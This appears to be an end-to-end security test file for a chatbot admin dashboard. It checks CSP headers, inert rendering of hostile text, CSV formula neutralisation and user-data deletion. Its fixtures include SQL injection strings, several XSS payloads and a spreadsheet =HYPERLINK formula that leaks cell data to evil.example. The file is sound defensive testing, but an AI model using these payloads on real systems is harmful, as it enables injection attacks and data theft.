import type { ApiError, UsersResponse } from '@botpulse/protocol';
import { DEMO_PAGE, entry, textMessage, webhookBody } from '@botpulse/tools/messenger';
import { type Stack, startStack } from '@botpulse/tools/testing';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { count } from './admin-support';
import {
  addSessionCookie,
  describeWithBrowser,
  launchBrowser,
  openPage,
  unexpectedProblems,
  type WatchedPage,
  waitForAttribute,
} from './helpers/browser';
import { parseCsv } from './helpers/csv';
import type { PageElement } from './helpers/dom';

// The dashboard in a real Chromium against the real admin: hostile text (SQL- and script-looking)
// is stored and shown as text, everywhere; the admin's security headers, with a Content Security
// Policy the dashboard really works under (no violation while it runs its pages and charts); and
// deleting a user's data from the dashboard.

/** SQL-looking and script-looking messages: each must be stored and shown exactly as sent. */
const HOSTILE = [
  "'; DROP TABLE conversations; --",
  '" OR 1=1 --',
  "Robert'); DROP TABLE users;--",
  '<script>window.__xss = 1; alert(1)</script>',
  '<img src=x onerror="window.__xss = 2; alert(2)">',
  '<a href="javascript:alert(3)">click me</a>',
  'javascript:alert(4)',
  '<svg/onload=alert(5)><iframe src="javascript:alert(6)"></iframe>',
  '<b>bold</b> &amp; &lt;b&gt; &#x3C;script&#x3E;',
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  '-2+3; @SUM(1,1)',
];
const SCRIPT_NAME = { firstName: '<img src=x onerror=alert(7)>', lastName: "'; DROP TABLE users; --" };
const TODAY_VICTIM = { psid: '6900000000000001', name: SCRIPT_NAME };
const TOP_VICTIM = {
  psid: '6900000000000002',
  name: { firstName: 'Mallory', lastName: '<script>alert(8)</script>' },
};
const BYSTANDER = { psid: '6900000000000003', name: { firstName: 'Bob', lastName: 'Bystander' } };

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}
interface SecurityGlobals {
  __xss?: number;
  __inline?: number;
}

interface FeedItem {
  id: string;
  text: string;
  /** elements inside `.message-text` (0: a text node only) */
  textChildren: number;
  user: string;
  userChildren: number;
  userId: string;
}

/** Every message the virtualised feed renders, scrolling it from top to bottom. */
async function collectFeed(page: Page): Promise<FeedItem[]> {
  type El = PageElement & { children: { length: number }; scrollTop: number };
  const seen = new Map<string, FeedItem>();
  const feed = page.locator('[data-testid="message-feed"]');
  await feed.evaluate((el: El) => {
    el.scrollTop = 0;
  });
  for (let step = 0; step < 100; step++) {
    const items = await page.$$eval('[data-testid="message-feed"] .message-item', (articles: El[]) =>
      articles.map((a) => {
        const text = a.querySelector('.message-text') as El | null;
        const user = a.querySelector('.message-user') as El | null;
        return {
          id: a.getAttribute('data-message-id') ?? '',
          text: text?.textContent ?? '',
          textChildren: text?.children.length ?? -1,
          user: user?.textContent ?? '',
          userChildren: user?.children.length ?? -1,
          userId: a.querySelector('.message-user-id')?.textContent ?? '',
        };
      }),
    );
    for (const i of items) seen.set(i.id, i);
    const atEnd = await feed.evaluate((el: El) => {
      const end = el.scrollTop + el.clientHeight >= el.scrollHeight - 1;
      el.scrollTop += Math.max(50, el.clientHeight / 2);
      return end;
    });
    if (atEnd) break;
  }
  return [...seen.values()];
}

async function post(stack: Stack, psid: string, text: string): Promise<string> {
  const event = textMessage({ psid, text });
  const res = await stack.post(webhookBody([entry(DEMO_PAGE.id, [event])]));
  expect(res.status).toBe(200);
  return event.message.mid;
}

function csp(header: string | null): Map<string, string[]> {
  return new Map(
    (header ?? '')
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name!.toLowerCase(), values]),
  );
}

describeWithBrowser('dashboard security', () => {
  let stack: Stack;
  let browser: Browser;
  let tab: WatchedPage;
  let cookie: string;
  const violations: Violation[] = [];
  const dialogs: string[] = [];
  const mids = new Map<string, string>();

  beforeAll(async () => {
    [stack, browser] = await Promise.all([startStack(), launchBrowser()]);
    cookie = await stack.login();
    for (const p of [TODAY_VICTIM, TOP_VICTIM, BYSTANDER]) stack.graph!.setProfile(p.psid, p.name);
    tab = await openPage(browser);
    await tab.page.exposeFunction('__reportCsp', (v: Violation) => {
      violations.push(v);
    });
    await tab.context.addInitScript(`
      document.addEventListener('securitypolicyviolation', (e) => {
        window.__reportCsp({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
      });
    `);
    tab.page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await addSessionCookie(tab.context, stack);
  });
  afterAll(async () => {
    await browser?.close();
    await stack?.stop();
  });

  describe('security headers', () => {
    it('HTML, API and assets carry a strict CSP and nosniff', async () => {
      const html = await fetch(`${stack.adminUrl}/`);
      const body = await html.text();
      const asset = /src="(\/assets\/[^"]+\.js)"/.exec(body)?.[1];
      expect(asset, 'the built dashboard links its script').toBeDefined();
      const responses: Array<[string, Response]> = [
        ['GET /', html],
        ['GET /analytics', await fetch(`${stack.adminUrl}/analytics`)],
        ['GET /login', await fetch(`${stack.adminUrl}/login`)],
        [`GET ${asset}`, await fetch(`${stack.adminUrl}${asset}`)],
        ['GET /api/auth/me (401)', await fetch(`${stack.adminUrl}/api/auth/me`)],
        [
          'GET /api/monitoring/dashboard',
          await fetch(`${stack.adminUrl}/api/monitoring/dashboard`, { headers: { cookie } }),
        ],
        [
          'GET /api/analytics/overview?tz=x (400)',
          await fetch(`${stack.adminUrl}/api/analytics/overview?tz=x`, { headers: { cookie } }),
        ],
        ['GET /api/nothing (404)', await fetch(`${stack.adminUrl}/api/nothing`, { headers: { cookie } })],
        [
          'POST /api/auth/login (401)',
          await fetch(`${stack.adminUrl}/api/auth/login`, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: '{"username":"a","password":"b"}',
          }),
        ],
      ];
      for (const [what, res] of responses) {
        await res.body?.cancel().catch(() => {});
        const policy = csp(res.headers.get('content-security-policy'));
        expect(policy.get('default-src'), what).toEqual(["'self'"]);
        expect(policy.get('script-src'), what).toEqual(["'self'"]);
        expect(policy.get('object-src'), what).toEqual(["'none'"]);
        expect(policy.get('frame-ancestors'), what).toEqual(["'none'"]);
        expect(policy.get('base-uri'), what).toEqual(["'self'"]);
        expect(policy.get('form-action'), what).toEqual(["'self'"]);
        expect(policy.get('connect-src'), what).toEqual(["'self'"]);
        const all = [...policy.values()].flat();
        expect(all, what).not.toContain("'unsafe-eval'");
        expect(all, what).not.toContain('*');
        expect(res.headers.get('x-content-type-options'), what).toBe('nosniff');
        expect(res.headers.get('x-frame-options'), what).toBe('SAMEORIGIN');
        expect(res.headers.get('referrer-policy'), what).toBe('no-referrer');
        expect(res.headers.get('x-powered-by'), what).toBeNull();
      }
    });
  });

  describe('hostile text', () => {
    it('is stored verbatim', async () => {
      for (const [i, text] of HOSTILE.entries()) {
        const who = [TODAY_VICTIM, TOP_VICTIM, BYSTANDER][i % 3]!;
        mids.set(text, await post(stack, who.psid, text));
      }
      // The victims write more, so they lead the top users.
      for (let i = 0; i < 3; i++) await post(stack, TOP_VICTIM.psid, `more from the top user ${i}`);
      await stack.waitFor(
        async () => (await count(stack, 'SELECT count(*) AS n FROM conversations')) === HOSTILE.length + 3,
        'every message stored',
        30_000,
      );
      const { rows } = await stack.db.query<{ mid: string; message_text: string }>(
        'SELECT mid, message_text FROM conversations',
      );
      const byMid = new Map(rows.map((r) => [r.mid, r.message_text]));
      for (const text of HOSTILE) expect(byMid.get(mids.get(text)!)).toBe(text);
      // The tables the SQL-looking texts named are all there, with their rows.
      expect(await count(stack, 'SELECT count(*) AS n FROM users')).toBe(3);
      const { rows: users } = await stack.db.query<{ first_name: string; last_name: string }>(
        'SELECT first_name, last_name FROM users WHERE facebook_id = $1',
        [TODAY_VICTIM.psid],
      );
      expect(users).toEqual([{ first_name: SCRIPT_NAME.firstName, last_name: SCRIPT_NAME.lastName }]);
    });

    it('is shown as text in the live feed: nothing parsed, nothing run', async () => {
      const { page } = tab;
      await page.goto(`${stack.adminUrl}/`);
      await waitForAttribute(page, 'connection-state', 'data-state', 'live');
      // One more arrives live, while the page is open.
      const live = `<img src=x onerror="window.__xss = 3; alert(9)"> live ${Date.now()}`;
      mids.set(live, await post(stack, TODAY_VICTIM.psid, live));
      const shown = [...HOSTILE, live];
      // The feed is virtualised: scroll through it and collect every item it renders.
      const rendered = await stack.waitFor(
        async () => {
          const items = await collectFeed(page);
          return shown.every((t) => items.some((i) => i.text === t)) ? items : undefined;
        },
        'every hostile message in the feed',
        30_000,
        200,
      );
      for (const text of shown) {
        const item = rendered.find((r) => r.text === text);
        expect(item, text).toBeDefined();
        // A text node only: no element was made from the markup.
        expect(item!.textChildren, text).toBe(0);
      }
      const named = rendered.filter((r) => r.user.startsWith('<img'));
      expect(named.length).toBeGreaterThan(0);
      for (const r of named) {
        expect(r.user).toBe(`${SCRIPT_NAME.firstName} ${SCRIPT_NAME.lastName}`);
        expect(r.userChildren).toBe(0);
      }
      const feed = page.locator('[data-testid="message-feed"]');
      expect(await feed.locator('script, img, svg, iframe, a[href^="javascript"], b').count()).toBe(0);
      expect(await page.evaluate(() => (globalThis as unknown as SecurityGlobals).__xss)).toBeUndefined();
      expect(dialogs).toEqual([]);
    });

    it('the CSV export neutralises formulas and keeps the rest verbatim; the JSON export is verbatim', async () => {
      const today = new Date().toISOString().slice(0, 10);
      const range = `from=${today}&to=${today}&tz=UTC`;
      const csvRes = await stack.api<string>(
        `/api/monitoring/export?format=csv&type=messages&${range}`,
        cookie,
      );
      expect(csvRes.status).toBe(200);
      const [header, ...rows] = parseCsv(csvRes.body);
      const col = (name: string) => header!.indexOf(name);
      const csvText = new Map(rows.map((r) => [r[col('message_text')]!, r]));
      for (const text of HOSTILE) {
        const neutral = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
        expect(csvText.has(neutral), `CSV cell for ${text}`).toBe(true);
      }
      const nameCells = rows
        .filter((r) => r[col('user_id')] === TODAY_VICTIM.psid)
        .map((r) => r[col('user_name')]);
      expect(new Set(nameCells)).toEqual(new Set([`${SCRIPT_NAME.firstName} ${SCRIPT_NAME.lastName}`]));

      const jsonRes = await stack.api<Array<{ message_text: string; user_name: string }>>(
        `/api/monitoring/export?format=json&type=messages&${range}`,
        cookie,
      );
      expect(jsonRes.status).toBe(200);
      expect(jsonRes.headers.get('content-type')).toMatch(/^application\/json/);
      const jsonTexts = jsonRes.body.map((r) => r.message_text);
      for (const text of HOSTILE) expect(jsonTexts).toContain(text);
    });
  });

  describe('the dashboard under its CSP', () => {
    it('Monitoring, Analytics, their charts and the PNG export run without a single violation', async () => {
      const { page } = tab;
      await page.waitForSelector('[data-testid="volume-24h"] svg.recharts-surface');
      await page.getByRole('link', { name: 'Analytics', exact: true }).click();
      await page.waitForURL((url) => url.pathname === '/analytics');
      // All of this file's messages are today's, the bucket still filling: the solid "complete"
      // area is a flat zero line (no height, never visible) and today's is the dashed "so far" one.
      await page
        .locator('[data-testid="volume-chart"] path.recharts-area-area[d]')
        .filter({ visible: true })
        .first()
        .waitFor();
      await page.locator('[data-testid="heatmap"] td.heatmap-cell').first().waitFor();
      await page.locator('[data-testid="top-users"] tr.users-row').first().waitFor();
      const chart = page.locator('[data-testid="volume-chart"]');
      await chart.getByRole('button', { name: 'Weekly', exact: true }).click();
      await page.waitForURL((url) => url.searchParams.get('g') === 'week');
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        chart.getByRole('button', { name: 'Download PNG' }).click(),
      ]);
      expect(download.suggestedFilename()).toMatch(/^messages_.*\.png$/);
      const png = await download.path();
      expect(png).toBeTruthy();
      await page.getByRole('link', { name: 'Monitoring', exact: true }).click();
      await page.waitForURL((url) => url.pathname === '/');
      await waitForAttribute(page, 'connection-state', 'data-state', 'live');
      // A full reload of each page as well (the policy applies to the first load too).
      for (const path of ['/analytics', '/']) {
        await page.goto(`${stack.adminUrl}${path}`);
        await page
          .locator(path === '/' ? '[data-testid="message-feed"]' : '[data-testid="volume-chart"]')
          .waitFor();
      }
      expect(violations).toEqual([]);
      expect(unexpectedProblems(tab.problems).filter((p) => /Content.Security.Policy/i.test(p))).toEqual([]);
    });

    it('the listener does catch a violation (an inline script is refused)', async () => {
      const { page } = tab;
      await page.evaluate(() => {
        const { document } = globalThis as unknown as {
          document: { createElement(t: string): { textContent: string }; head: { append(e: unknown): void } };
        };
        const script = document.createElement('script');
        script.textContent = 'window.__inline = 1';
        document.head.append(script);
      });
      await stack.waitFor(() => violations.length > 0, 'the violation report', 10_000);
      expect(violations.map((v) => v.directive)).toEqual(['script-src-elem']);
      expect(await page.evaluate(() => (globalThis as unknown as SecurityGlobals).__inline)).toBeUndefined();
      // Chromium says it on the console too, which the page watcher records as an error.
      const said = tab.problems.filter((p) => /violates the following Content Security Policy/.test(p));
      expect(said).toHaveLength(1);
      violations.length = 0;
      tab.problems.splice(tab.problems.indexOf(said[0]!), 1);
    });
  });

  describe('deleting a user from the dashboard', () => {
    async function confirmDelete(page: Page, name: string) {
      const dialog = page.getByRole('dialog', { name: "Delete this user's data?" });
      await dialog.waitFor();
      // The name is shown as text in the question too.
      expect(await dialog.locator('strong').textContent()).toBe(name);
      await dialog.getByRole('button', { name: 'Delete permanently' }).click();
      const done = page.getByRole('dialog', { name: 'User data deleted' });
      await done.waitFor();
      const message = (await done.textContent()) ?? '';
      await done.getByRole('button', { name: 'Done' }).click();
      return message;
    }

    async function expectGone(psid: string) {
      expect(
        await count(stack, 'SELECT count(*) AS n FROM conversations WHERE facebook_id = $1', [psid]),
      ).toBe(0);
      expect(await count(stack, 'SELECT count(*) AS n FROM users WHERE facebook_id = $1', [psid])).toBe(0);
      const users = await stack.api<UsersResponse>('/api/analytics/users?page_size=100', cookie);
      expect(users.body.top.map((u) => u.user_id)).not.toContain(psid);
      const again = await stack.api<ApiError>(`/api/users/${psid}`, cookie, { method: 'DELETE' });
      expect(again.status).toBe(404);
    }

    it("from Monitoring's list of today's users, after a confirmation", async () => {
      const { page } = tab;
      const before = await count(stack, 'SELECT count(*) AS n FROM conversations WHERE facebook_id = $1', [
        TODAY_VICTIM.psid,
      ]);
      expect(before).toBeGreaterThan(0);
      await page.getByRole('button', { name: "Today's users" }).click();
      const list = page.getByRole('dialog', { name: "Today's active users" });
      const row = list.locator('tr.users-row', { hasText: TODAY_VICTIM.psid });
      await row.waitFor();
      expect(await row.locator('.users-name').textContent()).toBe(
        `${SCRIPT_NAME.firstName} ${SCRIPT_NAME.lastName}`,
      );
      // Cancel first: nothing is deleted, the list is back.
      await row.getByRole('button', { name: /^Delete all data of / }).click();
      await page
        .getByRole('dialog', { name: "Delete this user's data?" })
        .getByRole('button', { name: 'Cancel' })
        .click();
      expect(
        await count(stack, 'SELECT count(*) AS n FROM users WHERE facebook_id = $1', [TODAY_VICTIM.psid]),
      ).toBe(1);

      await row.getByRole('button', { name: /^Delete all data of / }).click();
      const message = await confirmDelete(page, `${SCRIPT_NAME.firstName} ${SCRIPT_NAME.lastName}`);
      expect(message).toContain(`(${TODAY_VICTIM.psid}) and ${before} stored messages`);
      await expectGone(TODAY_VICTIM.psid);
      // The list no longer has them; the feed forgot their messages.
      await row.waitFor({ state: 'detached' });
      expect(await list.locator('tr.users-row').count()).toBe(2);
      await list.getByRole('button', { name: 'Close' }).click();
      await list.waitFor({ state: 'detached' });
      await stack.waitFor(
        async () => {
          const items = await collectFeed(page);
          return items.length > 0 && !items.some((i) => i.userId === TODAY_VICTIM.psid);
        },
        'the feed to forget the deleted user',
        15_000,
        200,
      );
    });

    it("from Analytics' top users, after a confirmation", async () => {
      const { page } = tab;
      const before = await count(stack, 'SELECT count(*) AS n FROM conversations WHERE facebook_id = $1', [
        TOP_VICTIM.psid,
      ]);
      await page.getByRole('link', { name: 'Analytics', exact: true }).click();
      const row = page.locator('[data-testid="top-users"] tr.users-row', { hasText: TOP_VICTIM.psid });
      await row.waitFor();
      const name = `${TOP_VICTIM.name.firstName} ${TOP_VICTIM.name.lastName}`;
      await row.getByRole('button', { name: `Delete all data of ${name}` }).click();
      const message = await confirmDelete(page, name);
      expect(message).toContain(`(${TOP_VICTIM.psid}) and ${before} stored messages`);
      await expectGone(TOP_VICTIM.psid);
      await page
        .locator('[data-testid="top-users"] tr.users-row', { hasText: TOP_VICTIM.psid })
        .waitFor({ state: 'detached' });
      // The bystander is untouched.
      expect(
        await count(stack, 'SELECT count(*) AS n FROM users WHERE facebook_id = $1', [BYSTANDER.psid]),
      ).toBe(1);
      expect(
        await page.locator('[data-testid="top-users"] tr.users-row', { hasText: BYSTANDER.psid }).count(),
      ).toBe(1);
    });

    it('no violation, no dialog, no error on the way', () => {
      expect(violations).toEqual([]);
      expect(dialogs).toEqual([]);
      expect(unexpectedProblems(tab.problems)).toEqual([]);
    });
  });
});
